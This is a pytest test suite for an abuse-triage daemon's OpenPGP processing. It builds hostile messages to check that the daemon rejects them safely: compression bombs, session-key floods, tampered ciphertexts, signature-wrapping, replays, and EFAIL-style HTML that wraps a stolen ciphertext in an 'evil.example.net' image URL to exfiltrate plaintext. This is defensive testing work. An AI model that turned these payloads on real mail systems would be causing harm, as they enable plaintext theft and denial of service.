"""What attackers make of OpenPGP, through the whole daemon: each ends in a verdict within the limits."""

import email
import json
import re
import time
import zlib
from collections.abc import Callable, Iterator
from email.message import EmailMessage

import pytest
from openpgp_shapes import multipart, text
from pgp import HOSTILE, Forge, armored, packet
from sealed import RITA, SECRET, TEXT, Csirt, encrypted, entity, kept, mail, opened_answer, places, raw_mail, signed

from abuse_triage.model.openpgp import Encrypted, KeyOrigin
from abuse_triage.openpgp import packets
from abuse_triage.store.interface import TicketFile

EVE = "eve@example.org"
PLAIN = entity(TEXT)
INSIDE = "198.51.100.7"
"""An address that stands in the plaintext only."""
LIMITS = 'cpu = "2s"\nmax_output = "1 MB"'
MEMORY_KB = 500_000
SECONDS = 20
"""In which a ticket is there: several times the limits of one message, for machines that are busy."""


@pytest.fixture(scope="module")
def csirt(tmp_path_factory: pytest.TempPathFactory, forge: Forge) -> Iterator[Csirt]:
    """A daemon that knows Rita's key, with low limits."""
    with Csirt.open(tmp_path_factory.mktemp("hostile"), forge, openpgp=LIMITS) as made:
        yield made


@pytest.fixture(autouse=True)
def goes_on(csirt: Csirt) -> Iterator[None]:
    """After each test, no process has died, nothing of the plaintext was stored, and the next message is opened."""
    yield
    assert [] == places(csirt.daemon.folder, SECRET)
    next_one = csirt.forge.encrypted(entity(f"A seguir: {time.time_ns()}"), csirt.forge.team)
    found = csirt.send(raw_mail(encrypted(next_one)))
    assert "encrypted, not signed" == found.ticket.protection
    log = csirt.daemon.log()
    for event in ("process-died", "role-failed", "role-crashed", "reading-failed", "quarantined"):
        assert f'"{event}"' not in log, event
    assert max(csirt.daemon.peaks().values()) < MEMORY_KB


def sent(csirt: Csirt, raw: bytes, sender: str = RITA) -> TicketFile:
    """Send a mail, and return its ticket, which has to be there in time."""
    begun = time.monotonic()
    found = csirt.send(raw, sender)
    assert time.monotonic() - begun < SECONDS
    assert 1 == len(found.reports)
    return found


def parts(forge: Forge, *to: str) -> tuple[bytes, bytes]:
    """Return the session key of a stock message and the body of its encrypted data."""
    stock = forge.encrypted(PLAIN, *(to or (forge.team,)), armor=False)
    (_, key), (_, data) = packets.pieces(stock)
    return key, next(body for tag, body in packets.walk(data) if tag == packets.Tag.ENCRYPTED)


def literal(content: bytes = PLAIN) -> bytes:
    """Write data as they are (RFC 9580 section 5.9)."""
    return packet(11, b"b\0\0\0\0\0" + content)


def compressed(content: bytes) -> bytes:
    """Write a compressed packet (section 5.6)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packet(8, b"\x01" + deflate.compress(content) + deflate.flush())


def nested(levels: int) -> bytes:
    """Compress a packet again and again."""
    content = literal()
    for _ in range(levels):
        content = compressed(content)
    return content


def slow() -> bytes:
    """Write eight gigabytes that gpg has to skip before the data, compressed twice."""
    stream = b""
    for _ in range(2):
        stream += flushed(b"\xff\xff" + (4_000_000_000).to_bytes(4, "big")) + flushed(bytes(1_000_000)) * 4000
    return compressed(packet(8, b"\x01" + stream + compressed(literal())[7:]))


def flushed(content: bytes) -> bytes:
    """Compress a piece that can be repeated, because nothing refers to what stands before it (RFC 1951)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflate.compress(content) + deflate.flush(zlib.Z_FULL_FLUSH)


def changed(data: bytes, position: int) -> bytes:
    """Flip one bit."""
    found = bytearray(data)
    found[position] ^= 1
    return bytes(found)


def hidden(key: bytes) -> bytes:
    """Take the key id out of a session key (section 5.1)."""
    (_, body), *_ = packets.walk(key)
    return packet(1, body[:1] + bytes(8) + body[9:])


def half(data: bytes) -> bytes:
    """Cut something off."""
    return data[: len(data) // 2]


def flood(forge: Forge, count: int, change: Callable[[bytes], bytes] = bytes, to: str = "") -> bytes:
    """Repeat the session key of a message."""
    key, data = parts(forge, *([to] if to else ()))
    return change(key) * count + packet(18, data)


def framed(
    forge: Forge,
    change: Callable[[bytes], bytes] = bytes,
    *,
    tag: int = 18,
    before: bytes = b"",
    between: bytes = b"",
) -> bytes:
    """Write a message with other data, or other packets, than the stock gpg would."""
    key, data = parts(forge)
    return before + key + between + packet(tag, change(data))


def tampered_key(forge: Forge) -> bytes:
    """Change the last octet of the session key."""
    key, data = parts(forge)
    return changed(key, -1) + packet(18, data)


def mangled(forge: Forge, change: Callable[[str], str]) -> bytes:
    """Change each line inside of an armour."""
    first, *lines, last = forge.encrypted(PLAIN, forge.team).decode().strip().split("\n")
    return "\n".join([first, *(change(line) if line else line for line in lines), last, ""]).encode()


PASSWORD = packet(3, b"\x04\x09\x03\x08saltsalt\xff")
MORE = {
    "a bomb": ("too large", lambda f: f.encrypted(bytes(60_000_000), f.team, options=("--compress-algo", "bzip2"))),
    "eight gigabytes to skip": ("took too long", lambda f: f.encrypted_packets(slow(), f.team)),
    "compressed forty times": ("integrity not proven", lambda f: f.encrypted_packets(nested(40), f.team)),
    "33 session keys": ("encrypted to too many keys", lambda f: flood(f, 33)),
    "5,000 session keys": ("encrypted to too many keys", lambda f: flood(f, 5000)),
    "5,000 hidden recipients": ("encrypted to too many keys", lambda f: flood(f, 5000, hidden)),
    "32 session keys of others": ("no secret key", lambda f: flood(f, 32, to=f.stranger)),
    "32 hidden recipients": ("no secret key", lambda f: flood(f, 32, hidden, to=f.stranger)),
    "50 passwords": ("encrypted with a password", lambda f: PASSWORD * 50 + packet(18, parts(f)[1])),
    "a password beside our key": ("encrypted with a password", lambda f: framed(f, before=PASSWORD)),
    "5,000 passwords behind our key": ("encrypted with a password", lambda f: framed(f, between=PASSWORD * 5000)),
    "cut in half": ("malformed", lambda f: half(f.encrypted(PLAIN, f.team, armor=False))),
    "armour cut off": ("malformed", lambda f: half(f.encrypted(PLAIN, f.team))),
    "shortened": ("integrity not proven", lambda f: framed(f, lambda data: data[:-40])),
    "without its end": ("integrity not proven", lambda f: framed(f, lambda data: data[:-22])),
    "tampered": ("integrity not proven", lambda f: framed(f, lambda data: changed(data, len(data) // 2))),
    "tampered at its end": ("integrity not proven", lambda f: framed(f, lambda data: changed(data, -1))),
    "tampered session key": ("malformed", tampered_key),
    "no integrity protection": ("integrity not proven", lambda f: framed(f, lambda data: data[1:], tag=9)),
    "protection taken away": ("integrity not proven", lambda f: framed(f, lambda data: data[1:-22], tag=9)),
    "unknown version": ("malformed", lambda f: framed(f, lambda data: b"\x02\x09\x02\x06" + data)),
    "unknown AEAD": ("integrity not proven", lambda f: framed(f, lambda data: b"\x01\x09\x02\x10" + data, tag=20)),
    "not encrypted": ("not encrypted at all", lambda _: literal()),
    "only compressed": ("not encrypted at all", lambda _: compressed(literal())),
    "only signed": ("not encrypted at all", lambda f: f.gpg("--armor", "-u", f.partner, "--sign", given=PLAIN)),
    "cleartext-signed": ("not encrypted at all", lambda f: f.cleartext(PLAIN, f.partner)),
    "two messages": ("several messages in one", lambda f: 2 * f.encrypted(PLAIN, f.team, armor=False)),
    "two armours": ("several messages in one", lambda f: 2 * f.encrypted(PLAIN, f.team)),
    "clear behind it": ("several messages in one", lambda f: f.encrypted(PLAIN, f.team, armor=False) + literal()),
    "clear before it": ("not encrypted at all", lambda f: literal() + f.encrypted(PLAIN, f.team, armor=False)),
    "two texts inside": ("integrity not proven", lambda f: f.encrypted_packets(2 * literal(), f.team)),
    "encrypted twice": (
        "several messages in one",
        lambda f: f.encrypted_packets(f.encrypted(PLAIN, f.team, armor=False), f.team),
    ),
    "somebody else's": ("no secret key", lambda f: f.encrypted(PLAIN, f.stranger)),
    "somebody's who is not named": ("no secret key", lambda f: f.encrypted(PLAIN, options=("-R", f.stranger))),
    "another alphabet": ("malformed", lambda f: mangled(f, lambda line: line.replace("A", "!"))),
    "quoted": ("malformed", lambda f: mangled(f, lambda line: "> " + line)),
    "padding everywhere": ("malformed", lambda f: mangled(f, lambda line: line + "==")),
    "in parts": (
        "malformed",
        lambda f: f.encrypted(PLAIN, f.team).replace(b"PGP MESSAGE", b"PGP MESSAGE, PART 01/02"),
    ),
    "empty": ("malformed", lambda _: b""),
    "empty armour": ("malformed", lambda _: armored(b"")),
    "no packets": ("malformed", lambda _: armored(b"not OpenPGP")),
    "a packet that never ends": ("malformed", lambda f: framed(f)[:400] + b"\xd2\xff\xff\xff\xff\xff" + bytes(1000)),
    "half a million lengths": ("malformed", lambda f: parts(f)[0] + b"\xd2" + b"\xe0\0" * 500_000),
}  # fmt: skip
"""Everything that is no encrypted report: the reason that is given, and how it is made."""


@pytest.mark.parametrize("name", MORE)
def test_what_is_no_encrypted_report_is_a_ticket_that_says_why(csirt: Csirt, name: str) -> None:
    """It asks for review; nothing of the plaintext is used."""
    reason, make = MORE[name]
    content = make(csirt.forge)
    content = content if content[:1] == b"-" or not content else armored(content)

    found = sent(csirt, raw_mail(encrypted(content), subject=name))

    assert f"could not be decrypted: {reason}, not signed" == found.ticket.protection
    assert found.ticket.summary.startswith(f"[could not be decrypted: {reason}] ")
    assert found.ticket.review
    assert () == found.indicators


def user_ids(forge: Forge, count: int) -> bytes:
    """Write a key with many names that nobody has confirmed."""
    (_, key), *_ = packets.pieces(forge.public(forge.stranger))
    return key + b"".join(packet(13, f"N{number} <n@example.org>".encode()) for number in range(count))


def repeated(forge: Forge, tag: int, count: int) -> bytes:
    """Repeat packets of a key."""
    return b"".join(
        octets * (count if kind == tag else 1) for kind, octets in packets.pieces(forge.public(forge.stranger))
    )


KEYS = {
    "2,000 user ids": lambda f: user_ids(f, 2000),
    "900 user ids": lambda f: user_ids(f, 900),
    "600 subkeys": lambda f: repeated(f, 14, 600),
    "900 signatures": lambda f: repeated(f, 2, 450),
    "huge": lambda f: f.public(f.stranger) + packet(17, bytes(70_000)),
    "a megabyte of armour": lambda f: armored(f.public(f.stranger) + bytes(1_000_000), "PUBLIC KEY BLOCK"),
    "two keys": lambda f: f.public(f.stranger, f.partner),
    "cut off": lambda f: half(f.public(f.stranger)),
    "mangled armour": lambda f: f.public(f.stranger, armor=True).replace(b"\n", b"\n!"),
    "unfinished armour": lambda f: half(f.public(f.stranger, armor=True)),
    "a secret key": lambda f: f.secret(f.stranger),
    "a secret key as a public one": lambda f: armored(f.secret(f.stranger), "PUBLIC KEY BLOCK"),
    "a message": lambda f: f.encrypted(PLAIN, f.team),
    "noise": lambda _: b"\x99" + bytes(range(256)) * 100,
    "an empty name": lambda f: user_ids(f, 0) + packet(13, b""),
}  # fmt: skip
"""What may come as a key and is none that can be offered."""


@pytest.mark.parametrize("name", KEYS)
def test_a_key_that_is_none_is_not_offered(csirt: Csirt, name: str) -> None:
    """The report beside it is read all the same."""
    whole = EmailMessage(policy=email.policy.SMTP)
    whole.set_content(f"O servidor 203.0.113.77 envia phishing ({name}).\n")
    whole.add_attachment(KEYS[name](csirt.forge), maintype="application", subtype="pgp-keys", filename="key.asc")

    found = sent(csirt, raw_mail(whole.as_bytes(), subject=name, sender=EVE), EVE)

    assert "203.0.113.77" in {one.value for one in found.indicators}
    assert [] == csirt.daemon.store().known_keys((KeyOrigin.ATTACHED,))


def test_hostile_names_in_keys_reach_no_terminal_and_no_log(csirt: Csirt) -> None:
    """A key whose name imitates gpg's status and Rita's address proves nothing, and is shown without line ends."""
    forge = csirt.forge
    whole = EmailMessage(policy=email.policy.SMTP)
    whole.set_content("O servidor 203.0.113.78 envia phishing.\n", cte="quoted-printable")
    key = forge.public(forge.hostile, armor=True)
    whole.add_attachment(key, maintype="application", subtype="pgp-keys", filename="key.asc")
    part = whole.as_bytes().rstrip(b"\r\n")

    found = sent(csirt, raw_mail(signed(part, forge.detached(part, forge.hostile)), subject="nomes"))

    assert found.ticket.protection.startswith("signed, not verified: key not pinned (attached)")
    assert not kept(found)["facts"]["openpgp.verified"]
    for shown in (
        csirt.command("key", "list", "--offered"),
        csirt.command("key", "show", forge.hostile),
        csirt.command("ticket", "show", found.ticket.number),
        csirt.daemon.log(),
    ):
        assert HOSTILE.split("\n")[0] not in {line.strip() for line in shown.splitlines()}
        assert not re.search(r"^\[GNUPG:\]|[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", shown, re.MULTILINE)
    csirt.daemon.store().remove_key(forge.hostile)


def stolen(csirt: Csirt, words: str = "") -> bytes:
    """Return a ciphertext that Rita made for the team, and that it may not have got yet."""
    forge = csirt.forge
    return forge.encrypted(entity(f"{TEXT}{words}"), forge.team, signer=forge.partner)


EXFILTRATIONS = {
    "between two parts of HTML": lambda ciphertext: multipart(
        "mixed",
        text('<img src="https://evil.example.net/?', "html"),
        encrypted(ciphertext).decode(),
        text('">', "html"),
    ),
    "as an attribute": lambda ciphertext: text(
        f'<img src="https://evil.example.net/?\n{ciphertext.decode()}\n">', "html"
    ),
    "in a form": lambda ciphertext: text(f"<form><textarea>\n{ciphertext.decode()}\n</textarea></form>", "html"),
    "in an attached mail": lambda ciphertext: multipart(
        "mixed",
        text("See below\n"),
        f"Content-Type: message/rfc822\n\nFrom: Rita Sousa <{RITA}>\nSubject: x\n{encrypted(ciphertext).decode()}",
    ),
    "as an attachment": lambda ciphertext: multipart(
        "mixed",
        text("https://evil.example.net/?"),
        f"Content-Type: application/octet-stream; name=a.pgp\n\n{ciphertext.decode()}",
    ),
    "as a text in a text": lambda ciphertext: text(f"https://evil.example.net/?\n{ciphertext.decode()}\n&x\n"),
}  # fmt: skip
"""Where a stolen ciphertext may stand in the mail of somebody else, so that what opens it gives it away (EFAIL)."""


@pytest.mark.parametrize("name", EXFILTRATIONS)
def test_a_stolen_ciphertext_in_other_content_gives_nothing_away(csirt: Csirt, name: str) -> None:
    """It is read for the handlers, marked as a part; no URL grows by it, and the answer tells nothing."""
    body = EXFILTRATIONS[name](stolen(csirt, name)).replace("\r\n", "\n").replace("\n", "\r\n")

    found = sent(csirt, raw_mail(body.encode(), subject=name, sender=EVE), EVE)

    assert "encrypted in part, not signed" == found.ticket.protection
    assert not kept(found)["facts"]["openpgp.verified"]
    assert {"https://evil.example.net/?", "https://evil.example.net/"} >= {
        one.value for one in found.indicators if "evil" in one.value and "://" in one.value
    }
    answer = csirt.answer(found)
    assert b"phishing" not in answer
    assert INSIDE.encode() not in answer


def by_rita(csirt: Csirt, words: str = "") -> bytes:
    """Return an entity that Rita has signed, without line ends around it."""
    part = entity(f"O servidor 203.0.113.80 envia spam. {words}\n")
    return signed(part, csirt.forge.detached(part, csirt.forge.partner))


def wrapped(kind: str, *parts_: str) -> bytes:
    """Put parts into a multipart with CRLF."""
    return multipart(kind, *parts_).replace("\r\n", "\n").replace("\n", "\r\n").encode()


def exchanged(part: bytes) -> bytes:
    """Put the signature before what it signs."""
    head, first, second, last = part.split(b"--s", 3)
    return b"--s".join((head, second, first, last))


EVIL = text("Transfira tudo para https://evil.example.net/conta\n")
EVIL_PART = EVIL.replace("\n", "\r\n").encode()
WRAPPINGS = {
    "text before it": lambda part: wrapped("mixed", EVIL, part.decode()),
    "text behind it": lambda part: wrapped("mixed", part.decode(), EVIL),
    "another version": lambda part: wrapped("alternative", part.decode(), EVIL),
    "related": lambda part: wrapped("related", EVIL, part.decode()),
    "alone": lambda part: wrapped("mixed", part.decode()),
    "an attached mail": lambda part: wrapped(
        "mixed", EVIL, f"Content-Type: message/rfc822\n\nFrom: {RITA}\n{part.decode()}"
    ),
    "a third part": lambda part: part.replace(b"--s--\r\n", b"--s\r\n" + EVIL_PART + b"--s--\r\n"),
    "parts exchanged": exchanged,
    "two types": lambda part: b"Content-Type: text/plain\r\n" + part,
    "an inner boundary": lambda part: part.replace(b"--s\r\n", b"--s\r\n" + EVIL_PART + b"--s\r\n", 1),
}  # fmt: skip
"""What may be done to a signed part so that something else is read."""


@pytest.mark.parametrize("name", WRAPPINGS)
def test_a_signature_that_is_wrapped_or_partial_counts_for_nothing(csirt: Csirt, name: str) -> None:
    """Rita's signature is good, and yet she has not written the message."""
    found = sent(csirt, raw_mail(WRAPPINGS[name](by_rita(csirt, name)), subject=name))

    assert "" == found.ticket.protection
    assert "openpgp.verified" not in kept(found)["facts"] or not kept(found)["facts"]["openpgp.verified"]


@pytest.mark.parametrize(("before", "behind"), [(EVIL, ""), ("", EVIL)], ids=["preamble", "epilogue"])
def test_what_stands_beside_the_parts_of_a_signed_mail_is_not_read(csirt: Csirt, before: str, behind: str) -> None:
    """Preamble and epilogue are no content (RFC 2046 section 5.1.1): the rest is verified, and nothing else is read."""
    head, _, body = by_rita(csirt, "preâmbulo" if before else "epílogo").partition(b"\r\n\r\n")
    raw = head + b"\r\n\r\n" + before.replace("\n", "\r\n").encode() + body + behind.replace("\n", "\r\n").encode()

    found = sent(csirt, raw_mail(raw, subject=f"junto {len(before)}"))

    assert "signed and verified" == found.ticket.protection
    assert {"203.0.113.80"} == {one.value for one in found.indicators if "evil" in one.value or one.value[0].isdigit()}


def test_only_the_one_address_in_from_can_be_verified(csirt: Csirt) -> None:
    """Rita's signature says nothing about Eve, whatever Eve calls herself, nor about two people."""
    other = sent(csirt, raw_mail(by_rita(csirt, "a"), subject="um", sender=EVE), EVE)
    both = sent(csirt, b"From: Eve <eve@example.org>\r\n" + raw_mail(by_rita(csirt, "b"), subject="dois"))
    listed = raw_mail(by_rita(csirt, "c"), subject="três").replace(b"From: ", b"From: eve@example.org, ", 1)
    named = raw_mail(by_rita(csirt, "d"), subject="quatro", sender=EVE).replace(b"Rita Sousa", b'"rita@example.pt"', 1)

    expected = "signed, not verified: key not pinned (ring); signer is not From"
    assert 4 * [expected] == [
        one.ticket.protection for one in (other, both, sent(csirt, listed), sent(csirt, named, EVE))
    ]


SIGNATURES = {
    "two signers": ("signature: mixed", lambda f, part: detached(f, part, f.partner, f.stranger)),
    "twice the same": ("signature: mixed", lambda f, part: detached(f, part, f.partner, f.partner)),
    "five": ("signature: error (several messages in one)", lambda f, part: detached(f, part, *[f.partner] * 5)),
    "five thousand": ("signature: error (too large)", lambda f, part: detached(f, part, f.partner) * 5000),
    "another text": ("signature: bad", lambda f, part: detached(f, part + b"x", f.partner)),
    "damaged": ("signature: bad", lambda f, part: changed(detached(f, part, f.partner), -1)),
    "cut off": ("signature: error (malformed)", lambda f, part: half(detached(f, part, f.partner))),
    "SHA-1": ("signature: error (integrity not proven)", lambda f, part: detached(f, part, f.partner, digest="SHA1")),
    "no signature": ("signature: error (malformed)", lambda _, part: literal(part)),
    "noise": ("signature: error (malformed)", lambda _, __: b"\xc2\x20" + bytes(32)),
    "a stranger": ("signature: unknown-key", lambda f, part: detached(f, part, f.stranger)),
    "revoked": ("signature: revoked-key", lambda f, part: detached(f, part, f.unrevoked)),
}  # fmt: skip
"""Signatures that prove nothing, and what is said of each."""


def detached(forge: Forge, part: bytes, *signers: str, digest: str = "SHA512") -> bytes:
    """Sign by several keys, one packet after the other."""
    return b"".join(forge.detached(part, signer, "--digest-algo", digest, armor=False) for signer in signers)


@pytest.mark.parametrize("name", SIGNATURES)
@pytest.mark.parametrize("inside", [False, True], ids=["in clear", "encrypted"])
def test_a_signature_that_proves_nothing_says_why(csirt: Csirt, name: str, inside: bool) -> None:
    """In a mail under Rita's name, in clear or inside of an encryption."""
    forge = csirt.forge
    if name == "revoked":
        csirt.know(forge.unrevoked, RITA, forge.revoked_certificate)
    words, make = SIGNATURES[name]
    part = entity(f"O servidor 203.0.113.81 envia spam ({name}, {inside}).\n")
    whole = signed(part, armored(make(forge, part), "SIGNATURE"))
    if inside:
        whole = encrypted(forge.encrypted(whole, forge.team))

    found = sent(csirt, raw_mail(whole, subject=f"{name} {inside}"))

    assert (f"encrypted, {words}" if inside else words) == found.ticket.protection
    assert not kept(found)["facts"]["openpgp.verified"]


def test_an_old_mail_is_not_verified(csirt: Csirt) -> None:
    """Its signature is of today, its Date of another month: one of the two is not true."""
    raw = re.sub(rb"\r\nDate: [^\r]*", b"\r\nDate: Thu, 01 Oct 2026 10:00:00 +0100", raw_mail(by_rita(csirt, "velha")))

    found = sent(csirt, raw)

    assert "signed, not verified: signature not of the time of the message" == found.ticket.protection


def test_what_was_signed_for_somebody_else_is_not_a_report_to_us(csirt: Csirt) -> None:
    """Rita wrote to Eve, who encrypts it anew for the team: the protected fields say so (RFC 9788)."""
    forge = csirt.forge
    part = (
        b'Content-Type: text/plain; charset=utf-8; protected-headers="v1"; hp="cipher"\r\n'
        b"From: Rita Sousa <rita@example.pt>\r\nTo: eve@example.org\r\nSubject: entre nos\r\n\r\n"
        b"Podes usar isto.\r\n"
    )
    inside = signed(part, forge.detached(part, forge.partner))

    found = sent(csirt, raw_mail(encrypted(forge.encrypted(inside, forge.team)), subject="..."))

    assert "encrypted, signed, not verified: headers differ" == found.ticket.protection


def test_a_replay_in_another_wrapping_is_seen(csirt: Csirt) -> None:
    """The same signed part in clear, then encrypted; the same ciphertext with another session key packet beside it."""
    forge = csirt.forge
    part = by_rita(csirt, "uma vez")
    first = sent(csirt, raw_mail(part, subject="primeira"))
    again = sent(csirt, raw_mail(encrypted(forge.encrypted(part, forge.team)), subject="segunda"))
    key, data = parts(forge)
    others, _ = parts(forge, forge.stranger)
    third = sent(csirt, raw_mail(encrypted(armored(key + packet(18, data))), subject="terceira"))
    fourth = sent(csirt, raw_mail(encrypted(armored(others + key + packet(18, data))), subject="quarta"))

    assert "signed and verified" == first.ticket.protection
    assert "encrypted, signed, not verified: seen before in another message" == again.ticket.protection
    assert "encrypted, not signed" == third.ticket.protection
    assert "encrypted, not signed, seen before in another message" == fourth.ticket.protection


def test_a_stolen_ciphertext_is_nobody_elses(csirt: Csirt) -> None:
    """Rita's mail, then its ciphertext as Eve's, and under Rita's name; and one that Eve brings before Rita does."""
    first = encrypted(stolen(csirt, "roubada"))
    second = encrypted(stolen(csirt, "interceptada"))

    found = [
        sent(csirt, raw_mail(first, subject="a")),
        sent(csirt, raw_mail(first, subject="b", sender=EVE), EVE),
        sent(csirt, raw_mail(first, subject="c"), EVE),
        sent(csirt, raw_mail(second, subject="d", sender=EVE), EVE),
    ]

    assert [
        "encrypted, signed and verified",
        "encrypted, signed, not verified: key not pinned (ring); signer is not From; seen before in another message",
        "encrypted, signed, not verified: seen before in another message",
        "encrypted, signed, not verified: key not pinned (ring); signer is not From",
    ] == [one.ticket.protection for one in found]


def inline(ciphertext: bytes) -> bytes:
    """Give a ciphertext as the only text."""
    return b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + ciphertext.replace(b"\n", b"\r\n")


def attached(ciphertext: bytes) -> bytes:
    """Attach a ciphertext to a report in clear, which has something to tell."""
    whole = EmailMessage(policy=email.policy.SMTP)
    whole.set_content("O servidor 203.0.113.90 envia phishing.\n")
    whole.add_attachment(ciphertext, maintype="application", subtype="octet-stream", filename="a.pgp")
    return whole.as_bytes()


def deeper(ciphertext: bytes) -> bytes:
    """Put an encrypted part beside a text."""
    return wrapped("mixed", text("See below.\n"), encrypted(ciphertext).decode())


FORMS = {"root": encrypted, "inline": inline, "attached": attached, "deeper": deeper}


@pytest.mark.parametrize("sender", [RITA, EVE])
def test_no_answer_tells_whether_a_ciphertext_could_be_opened(csirt: Csirt, sender: str) -> None:
    """The same text, as long, and as late, in every form: to her whose key is known, and to a thief."""
    forge = csirt.forge
    inside = entity(f"TLP:RED\n\n{TEXT}")
    made = {
        "opened": lambda: forge.encrypted(inside, forge.team, signer=forge.partner),
        "for somebody else": lambda: forge.encrypted(inside, forge.stranger, signer=forge.partner),
        "damaged": lambda: armored(framed(forge, lambda data: changed(data, -1))),
        "too large": lambda: forge.encrypted(bytes(2_000_000), forge.team),
    }
    tickets = {
        (form, how): sent(csirt, raw_mail(wrap(make()), subject="Denúncia", sender=sender), sender)
        for form, wrap in FORMS.items()
        for how, make in made.items()
    }

    for form in FORMS:
        assert "encrypted" in tickets[form, "opened"].ticket.protection
        answers = [answered(csirt, tickets[form, how]) for how in made]
        texts, sizes, delays = zip(*answers, strict=True)
        assert 1 == len(set(texts)), form
        assert max(sizes) - min(sizes) <= 16, (form, sizes)
        assert 3 <= min(delays), (form, delays)
        assert max(delays) - min(delays) < 2, (form, delays)


def answered(csirt: Csirt, found: TicketFile) -> tuple[str, int, float]:
    """Return text, size and delay of an answer, whose number and minute of the clock are as long as any other's."""
    raw = csirt.answer(found)
    answer = email.message_from_bytes(raw)
    if answer.get_content_type() == "multipart/encrypted":
        said = opened_answer(csirt, found)
    else:
        assert "multipart/signed" == answer.get_content_type()
        said = answer.get_payload()[0].get_payload(decode=True).decode()
    left = next(mail for mail in csirt.daemon.store().ticket(found.ticket.number).mails)
    file = csirt.daemon.folder / "outbox" / f"{left.message_id}.eml"
    delay = file.stat().st_mtime - found.reports[0].received_at.timestamp()
    assert INSIDE not in said
    assert SECRET not in said
    return re.sub(r"\d\d:\d\d", "T", said.replace(found.ticket.number, "N")), len(raw), delay


def test_nobody_can_have_us_sign_his_words(csirt: Csirt) -> None:
    """What an attacker writes anywhere stands nowhere in the signed answer: subject, names, text, plaintext."""
    words = "confirmo-o-pagamento"
    forge = csirt.forge
    clear = mail(f"{words} https://{words}.example.net/\n", subject=words, sender=EVE)
    inside = entity(f"{words}\nReference: {words}\n")
    sealed = raw_mail(encrypted(forge.encrypted(inside, forge.team)), subject=words, sender=EVE)

    for raw in (clear, sealed.replace(b"Rita Sousa", words.encode())):
        answer = email.message_from_bytes(csirt.answer(sent(csirt, raw, EVE)))
        assert "multipart/signed" == answer.get_content_type()
        covered = answer.get_payload()[0]
        assert words not in covered.get_payload(decode=True).decode()
        assert words not in json.dumps([*answer.items(), *covered.items()])


def test_32_broken_session_keys_do_not_hide_ours(csirt: Csirt) -> None:
    """A message for many, of which we are the last, is opened within the limits."""
    forge = csirt.forge
    key, data = parts(forge)
    others, _ = parts(forge, forge.stranger)

    found = sent(csirt, raw_mail(encrypted(armored(hidden(others) * 31 + key + packet(18, data))), subject="muitos"))

    assert Encrypted.YES == kept(found)["openpgp"]["encrypted"]
